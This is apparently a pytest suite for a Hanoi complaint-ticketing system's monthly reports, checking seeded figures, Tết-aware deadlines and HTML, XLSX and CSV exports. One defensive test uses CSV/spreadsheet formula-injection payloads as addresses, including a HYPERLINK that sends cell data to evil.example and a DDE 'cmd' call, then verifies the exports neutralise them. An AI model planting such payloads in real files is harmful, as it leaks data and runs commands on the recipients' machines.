"""Reports on a seeded database with hand-computed answers, on SQLite and PostgreSQL.

February 2026 in Hanoi, built through the real service with a clock the test moves and the scheduler's
sweep run at chosen instants: a ticket whose deadline runs across Tết (16-20/02), one transferred twice,
a complex one extended once, one never dispatched, one rejected, one draft, and calls.
"""

from __future__ import annotations

import csv
import io
from datetime import datetime, timedelta
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy.orm import Session

from tests.scheduler_world import VN, World, world
from ticketing.calls import CallRecord, Outcome
from ticketing.db.calls import SqlCallRepository
from ticketing.db.reports import Filters, compute
from ticketing.reports import periods
from ticketing.reports.arithmetic import late_flag, minutes_seconds, percent, rate
from ticketing.reports.data import Report
from ticketing.reports.render import csv_text, html, xlsx


def at(day: int, hour: int = 9, minute: int = 0, month: int = 2) -> datetime:
    return datetime(2026, month, day, hour, minute, tzinfo=VN)


def _call(repo: SqlCallRepository, n: int, start: datetime, seconds: int, outcome: Outcome) -> None:
    answered = start + timedelta(seconds=3)
    repo.add(
        CallRecord(
            id=None,
            channel_id=f"chan-{n}",
            caller=f"09000000{n:02d}",
            called="1022",
            started_at=start,
            answered_at=None if outcome is Outcome.ABANDONED else answered,
            ended_at=answered + timedelta(seconds=seconds),
            outcome=outcome,
        )
    )


def seed_february(w: World) -> dict[str, str]:
    """Returns the tickets' codes by name; see the module docstring."""
    t, c = w.tickets, w.clock
    codes: dict[str, str] = {}
    c.at = at(20, month=1)
    codes["january"] = w.create("hanoi", "00070")
    t.dispatch(codes["january"], "dp", agency="UBND-00070")
    t.accept(codes["january"], "ubnd")
    t.complete(codes["january"], "Đã thu gom", "ubnd", evidence=[w.evidence])
    c.at = at(2)
    codes["complex"] = w.create("hanoi", "00070", category="TTDT", priority="complex")
    t.dispatch(codes["complex"], "dp", agency="SO-XD")
    t.accept(codes["complex"], "so-xd")
    c.at = at(3)
    codes["transferred"] = w.create("hanoi", "00070")
    t.dispatch(codes["transferred"], "dp", agency="UBND-00070")
    c.at = at(3, 10)
    t.transfer(codes["transferred"], "SO-XD", "Thuộc thẩm quyền Sở Xây dựng", "ubnd")
    c.at = at(4)
    t.transfer(codes["transferred"], "MT-HN", "Thu gom rác do URENCO thực hiện", "so-xd")
    assert t.get(codes["transferred"]).due_at == at(13)  # 7 working days from the last transfer
    c.at = at(5)
    codes["quick"] = w.create("hanoi", "00070")
    t.dispatch(codes["quick"], "dp", agency="UBND-00070")
    t.accept(codes["quick"], "ubnd")
    c.at = at(6, 10)
    t.complete(codes["quick"], "Đã thu gom", "ubnd", evidence=[w.evidence])
    c.at = at(9)
    codes["rejected"] = w.create("hanoi", "00070")
    c.at = at(9, 10)
    t.reject(codes["rejected"], "Không thuộc phạm vi tiếp nhận", "dp")
    c.at = at(10)
    codes["undispatched"] = w.create("hanoi", "00070")
    codes["draft"] = t.create(
        {"city": "hanoi", "category": "VSMT", "complete": False, "caller": {"phone": "0912345678"}}, "ai-bot"
    ).ticket.code
    c.at = at(11, 10)
    assert t.sweep_deadlines("hanoi") == [codes["undispatched"]]  # 8 working hours passed at 11/02 09:00
    c.at = at(12)
    codes["tet"] = w.create("hanoi", "00070")
    t.dispatch(codes["tet"], "dp", agency="UBND-00070")
    c.at = at(12, 10)
    t.accept(codes["tet"], "ubnd")
    # 7 working days from Thu 12/02 09:00 across Tết (16-20/02) and two weekends: Mon 02/03 09:00
    assert t.get(codes["tet"]).due_at == at(2, month=3)
    c.at = at(13, 10)
    assert t.sweep_deadlines("hanoi") == [codes["transferred"]]
    c.at = at(23, 10)
    t.accept(codes["transferred"], "mt-hn")
    t.complete(codes["transferred"], "Đã thu gom, muộn", "mt-hn", evidence=[w.evidence])
    c.at = at(26)
    codes["open"] = w.create("hanoi", "00004", category="TTDT")
    t.dispatch(codes["open"], "dp", agency="SO-XD")
    t.accept(codes["open"], "so-xd")
    c.at = at(27)
    t.extend(codes["complex"], 5, "Cần phối hợp nhiều đơn vị", "so-xd")
    assert t.get(codes["complex"]).due_at == at(9, month=3)  # 15 + 5 working days, Tết skipped
    c.at = at(27, 17)
    assert t.sweep_deadlines("hanoi") == []  # without Tết the "tet" ticket would be late by now
    c.at = at(2, 9, 1, month=3)
    assert t.sweep_deadlines("hanoi") == [codes["tet"]]  # the complex one is saved by its extension
    c.at = at(3, 10, month=3)
    t.complete(codes["complex"], "Đã xử lý xong", "so-xd", evidence=[w.evidence])

    calls = SqlCallRepository(w.sessions)
    _call(calls, 1, at(3), 120, Outcome.AI_HANDLED)
    _call(calls, 2, at(12, 20), 180, Outcome.AI_HANDLED)
    _call(calls, 3, at(17, 2), 300, Outcome.TRANSFERRED)  # on the first day of Tết: the hotline is 24/7
    _call(calls, 4, at(20), 15, Outcome.ABANDONED)
    _call(calls, 5, at(28, 23, 59), 5, Outcome.FAILED)
    _call(calls, 6, at(31, month=1), 60, Outcome.AI_HANDLED)  # January
    return codes


def _report(w: World, **filters: str) -> Report:
    with Session(w.engine) as session:
        steps: list[str] = []
        report = compute(
            session,
            periods.month("2026-02"),
            Filters(city="hanoi", **filters),
            at(3, 11, month=3),
            steps.append,
        )
    assert steps == ["calls", "tickets", "reasons", "agencies", "categories", "wards", "repeats"]
    return report


@pytest.fixture
def february(db_url: str, tmp_path: Path):  # type: ignore[no-untyped-def]
    with world(db_url, tmp_path, at(20, month=1)) as w:
        codes = seed_february(w)
        yield w, codes


def test_monthly_figures_match_the_hand_count(february) -> None:  # type: ignore[no-untyped-def]
    w, _codes = february
    r = _report(w)
    c = r.calls
    assert (c.received, c.ai_handled, c.transferred, c.abandoned, c.failed) == (5, 2, 1, 1, 1)
    assert c.avg_handling_s == pytest.approx(200.0, abs=0.01)  # (120 + 180 + 300) / 3
    t = r.tickets
    assert (t.received, t.drafts, t.new, t.dispatched, t.awaiting, t.in_progress) == (7, 1, 1, 5, 0, 2)
    assert (t.done, t.rejected, t.on_time, t.overdue) == (3, 1, 2, 3)
    assert t.on_time_rate == pytest.approx(2 / 3) and t.overdue_rate == pytest.approx(3 / 7)
    assert dict(r.reasons) == {"not_dispatched": 1, "transferred": 1, "open": 1}

    agencies = {a.key: a for a in r.by_agency}
    assert set(agencies) == {"UBND-00070", "MT-HN", "SO-XD"}
    ubnd, urenco, soxd = agencies["UBND-00070"], agencies["MT-HN"], agencies["SO-XD"]
    assert (ubnd.received, ubnd.done, ubnd.rejected, ubnd.on_time, ubnd.overdue) == (4, 1, 1, 1, 2)
    assert (urenco.received, urenco.done, urenco.on_time, urenco.overdue) == (1, 1, 0, 1)
    assert (soxd.received, soxd.done, soxd.on_time, soxd.overdue) == (2, 1, 1, 0)
    assert ubnd.name == "Ủy ban nhân dân phường Hoàn Kiếm"
    assert [a.key for a in r.flagged_agencies] == ["UBND-00070", "MT-HN"]  # 50 % and 100 % > 30 %

    cats = {g.key: g for g in r.by_category}
    assert (cats["VSMT"].received, cats["VSMT"].overdue, cats["TTDT"].received, cats["TTDT"].overdue) == (
        5,
        3,
        2,
        0,
    )
    assert cats["TTDT"].name == "Trật tự đô thị"
    wards = {g.key: g for g in r.by_ward}
    assert (wards["00070"].received, wards["00004"].received) == (6, 1)
    assert wards["00004"].name == "Phường Ba Đình"
    assert r.repeats == ()


def test_filters_by_agency_and_category(february) -> None:  # type: ignore[no-untyped-def]
    w, _codes = february
    r = _report(w, agency="SO-XD")
    assert (r.tickets.received, r.tickets.done, r.tickets.in_progress, r.tickets.overdue) == (2, 1, 1, 0)
    assert r.calls.received == 5  # calls are not per agency
    r = _report(w, category="VSMT")
    assert (r.tickets.received, r.tickets.overdue) == (5, 3)
    assert {a.key for a in r.by_agency} == {"UBND-00070", "MT-HN"}


def test_renderers(february, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    w, _codes = february
    r = _report(w)
    page = html(r)
    assert "Báo cáo tháng" in page and "Tháng 02/2026" in page
    assert page.count('src="data:image/png;base64,') == 4
    assert '<tr class="flag">' in page and "UBND-00070, MT-HN" in page
    assert "@page { size: A4" in page

    book = load_workbook(io.BytesIO(xlsx(r)))
    assert book.sheetnames == [
        "Thông tin",
        "Cuộc gọi",
        "Phản ánh, kiến nghị",
        "Lý do quá hạn",
        "Theo đơn vị xử lý",
        "Theo lĩnh vực",
        "Theo xã, phường",
        "Phản ánh nhiều lần",
    ]
    sheet = book["Theo đơn vị xử lý"]
    rows = {row[0]: row for row in sheet.iter_rows(min_row=2, values_only=True) if row[0]}
    assert rows["UBND-00070"][2:7] == (4, 1, 1, 1, 2) and rows["UBND-00070"][8] == "Có"

    lines = list(csv.reader(io.StringIO(csv_text(r))))
    assert ["Tiếp nhận", "7"] in lines and ["Thời gian xử lý trung bình (phút:giây)", "3:20"] in lines


def test_repeated_issues(db_url: str, tmp_path: Path) -> None:
    with world(db_url, tmp_path, at(2)) as w:
        same = [w.create("hanoi", "00070", address=" Ngõ 7 Hàng Gai ") for _ in range(4)]
        w.clock.advance(hours=1)
        assert len(same) == 4
        # four at one address: not yet a flag
        assert _report(w).repeats == ()
        w.create("hanoi", "00070", address="ngõ 7 hàng gai")
        (issue,) = _report(w).repeats
        assert (issue.basis, issue.category, issue.where, issue.reports, issue.unresolved) == (
            "place",
            "VSMT",
            "ngõ 7 hàng gai",
            5,
            5,
        )
        # linked duplicates: an original and four duplicates elsewhere, original still open
        original = w.create("hanoi", "00004", category="TTDT", address="Phố Kim Mã")
        w.tickets.dispatch(original, "dp", agency="SO-XD")
        w.tickets.accept(original, "so-xd")
        for i in range(4):
            dup = w.create("hanoi", "00004", category="TTDT", address=f"Kim Mã số {i}")
            w.tickets.mark_duplicate(dup, original, "dp")
        found = {i.basis: i for i in _report(w).repeats}
        assert found["duplicates"].where == original and found["duplicates"].reports == 5
        # resolving the place issue once clears its flag
        w.tickets.dispatch(same[0], "dp")
        w.tickets.accept(same[0], "ubnd")
        w.tickets.complete(same[0], "Đã xử lý", "ubnd", evidence=[w.evidence])
        assert {i.basis for i in _report(w).repeats} == {"duplicates"}


def test_arithmetic_and_periods() -> None:
    assert rate(1, 0) is None and percent(None) == "-" and percent(0.3) == "30.0 %"
    assert late_flag(3, 10) is False and late_flag(4, 10) is True  # more than 30 %, strictly
    assert minutes_seconds(200.0) == "3:20" and minutes_seconds(None) == "-"
    q = periods.quarter("2026Q3")
    assert (q.start, q.end) == (datetime(2026, 7, 1, tzinfo=VN), datetime(2026, 10, 1, tzinfo=VN))
    assert periods.month("2026-12").end == datetime(2027, 1, 1, tzinfo=VN)
    assert periods.year("2026").label == "Năm 2026"
    assert periods.date_range("2026-10-01", "2026-10-15").end == datetime(2026, 10, 16, tzinfo=VN)
    for bad in (lambda: periods.month("2026-13"), lambda: periods.quarter("2026Q5")):
        with pytest.raises(periods.PeriodError):
            bad()
    with pytest.raises(periods.PeriodError):
        periods.date_range("2026-10-02", "2026-10-01")


def _live(text: str) -> bool:
    return text.startswith(("=", "+", "@", "\t", "\r")) or (text.startswith("-") and text != "-")


def test_caller_text_never_becomes_a_formula(db_url: str, tmp_path: Path) -> None:
    """Callers' words reach the reports (the place of a repeated issue): no export may run them."""
    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
    with world(db_url, tmp_path, at(2)) as w:
        for _ in range(5):
            w.create("hanoi", "00070", address=hostile)
        for start in ("+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)"):
            for _ in range(5):
                w.create("hanoi", "00070", address=start)
        r = _report(w)
    assert len(r.repeats) == 4
    book = load_workbook(io.BytesIO(xlsx(r)))
    cells = [cell for ws in book.worksheets for row in ws.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert not [t for t in texts if _live(t)]
    assert any(t.startswith("'=") and "hyperlink" in t.lower() for t in texts)
    rows = list(csv.reader(io.StringIO(csv_text(r))))
    flat = [c for row in rows for c in row]
    assert not [c for c in flat if _live(c)]
    assert any(c.startswith("'=") for c in flat)


def test_neutralise_leaves_numbers_and_plain_text() -> None:
    from ticketing.reports.cells import neutralise

    assert neutralise("-") == "-" and neutralise("-12") == "-12" and neutralise("12.5 %") == "12.5 %"
    assert neutralise(-3) == -3 and neutralise(None) is None and neutralise("Ngõ 7") == "Ngõ 7"
    assert neutralise("\t=1") == "'\t=1" and neutralise("\r=1") == "'\r=1" and neutralise("@x") == "'@x"
